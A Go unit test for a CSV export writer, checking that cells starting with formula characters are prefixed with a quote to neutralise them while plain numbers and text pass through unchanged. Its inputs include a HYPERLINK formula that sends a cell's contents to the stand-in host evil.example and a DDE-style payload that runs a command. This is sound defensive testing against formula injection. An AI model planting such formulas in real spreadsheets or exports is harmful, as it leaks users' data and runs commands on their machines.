package csvexport

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestFormulaCellsAreNeutralised(t *testing.T) {
	var out bytes.Buffer
	w := NewWriter(&out)
	in := []string{`=HYPERLINK("https://evil.example/?"&A1)`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx",
		"-12", "+3.5", "gpt-4o", "", "a=b"}
	if err := w.Write(in); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	got, err := csv.NewReader(&out).Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("https://evil.example/?"&A1)`, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\tx", "'\rx",
		"-12", "+3.5", "gpt-4o", "", "a=b"}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %d: got %q, want %q", i, got[i], want[i])
		}
	}
	if in[0][0] != '=' {
		t.Error("the caller's record was changed")
	}
}
